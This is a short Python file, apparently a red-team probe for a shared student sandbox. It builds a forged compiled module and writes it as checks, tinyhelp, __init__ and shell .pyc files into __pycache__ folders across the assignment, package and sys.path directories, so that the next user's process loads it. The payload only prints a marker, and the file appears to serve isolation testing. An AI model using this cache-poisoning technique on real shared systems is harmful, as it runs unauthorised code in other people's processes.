"""Leave compiled modules that are loaded in place of the real ones. Success: the next student's process loads one."""

CELL = '''
import importlib.util
import marshal
import os
import sys

code = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("print('left-by-redteam')", "x", "exec"))
for folder in [".", "/opt/assignment", "/opt/packages/numpy", "/opt/kit/sandbox", *sys.path]:
    try:
        os.makedirs(os.path.join(folder or ".", "__pycache__"), exist_ok=True)
        for name in ("checks", "tinyhelp", "__init__", "shell"):
            with open(os.path.join(folder or ".", "__pycache__", f"{name}.cpython-{sys.version_info[0]}{sys.version_info[1]}.pyc"), "wb") as file:
                file.write(code)
        print("written", folder)
    except OSError:
        pass
'''
